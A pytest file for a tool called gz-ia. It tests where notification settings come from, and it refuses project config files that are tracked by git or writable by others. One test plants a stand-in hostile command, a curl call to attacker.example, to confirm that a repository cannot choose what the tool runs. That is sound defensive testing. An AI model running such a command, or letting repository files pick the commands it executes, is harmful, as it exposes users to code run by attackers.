"""Where notification settings come from: the user's file, a project's own file (only
when it is the user's and untracked), the environment; an argv is never a shell line."""

from __future__ import annotations

import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from gzia.contract import InvalidInputError, SafetyBlockError
from gzia.sessions.notify import notify_settings, send_test
from gzia.sessions.project import find_project
from tests.fakes.http import FakeServer
from tests.notify.conftest import hook_calls, posts


def project_file(repo: Path, text: str) -> Path:
    path = repo / ".harness" / "config.toml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o600)
    return path


def test_a_project_file_is_above_the_users_and_below_the_environment(
        repo: Path, settings_file: Callable[..., Path],
        monkeypatch: pytest.MonkeyPatch) -> None:
    settings_file(notify_webhook="https://user.example/hook", notify_debounce_ms=1000,
                  notify_desktop=False)
    project_file(repo, 'notify_command = ["/usr/bin/page-me", "--team", "dev"]\n'
                       "notify_debounce_ms = 250\n")
    settings = notify_settings(find_project(repo))
    assert (settings.command, settings.webhook, settings.debounce_s, settings.desktop) == \
        (("/usr/bin/page-me", "--team", "dev"), "https://user.example/hook", 0.25, False)
    monkeypatch.setenv("GZ_NOTIFY_DEBOUNCE_MS", "0")
    monkeypatch.setenv("GZ_NOTIFY_COMMAND", "'/opt/my hooks/notify' --json")
    settings = notify_settings(find_project(repo))
    assert (settings.command, settings.debounce_s) == (("/opt/my hooks/notify", "--json"), 0.0)


def test_a_project_file_tracked_by_git_is_not_read(repo: Path) -> None:
    path = project_file(repo, 'notify_command = ["curl", "https://attacker.example"]\n')
    subprocess.run(["git", "add", "-f", str(path)], cwd=repo, check=True)
    with pytest.raises(SafetyBlockError) as raised:
        notify_settings(find_project(repo))
    assert raised.value.message == (
        f"the project's settings file {path} is tracked by git: a repository cannot choose "
        "what gz-ia runs, so it is not read")


def test_a_project_file_others_may_write_is_not_read(repo: Path) -> None:
    path = project_file(repo, "notify_desktop = false\n")
    path.chmod(0o666)
    with pytest.raises(SafetyBlockError):
        notify_settings(find_project(repo))


def test_a_project_file_holds_only_notification_settings(repo: Path) -> None:
    path = project_file(repo, "allow_push = true\n")
    with pytest.raises(InvalidInputError) as raised:
        notify_settings(find_project(repo))
    assert raised.value.message.startswith(
        f"setting 'allow_push' in {path} cannot be set for one project (valid: notify_command, ")


@pytest.mark.parametrize("value", ['""', "[]", '[""]', "[1]", '"unclosed \'quote"'])
def test_a_command_must_be_a_program_and_its_arguments(
        repo: Path, settings_file: Callable[..., Path], value: str) -> None:
    path = settings_file()
    path.write_text(f"notify_command = {value}\n")
    with pytest.raises(InvalidInputError) as raised:
        notify_settings(find_project(repo))
    assert "must be a program and its arguments" in raised.value.message


def test_send_test_goes_through_each_configured_channel(
        repo: Path, settings_file: Callable[..., Path], receiver: FakeServer,
        hook: tuple[list[str], Path]) -> None:
    argv, out = hook
    settings_file(notify_webhook=receiver.url + "/hook", notify_command=argv,
                  notify_desktop=False)
    settings, deliveries = send_test(find_project(repo))
    assert settings.channels == ("command", "webhook")
    assert [(d.channel, d.ok) for d in deliveries] == [("command", True), ("webhook", True)]
    (document,) = posts(receiver)
    assert (document["event"], document["text"]) == (
        "test", "gz-ia: a test notification (gz-ia notify test)")
    assert hook_calls(out)[0]["env"]["GZ_SESSION_EVENT"] == "test"


def test_send_test_with_no_channel_sends_nothing(
        repo: Path, settings_file: Callable[..., Path]) -> None:
    settings_file(notify_desktop=False)  # notify-send may be installed here
    assert send_test(find_project(repo))[1] == []
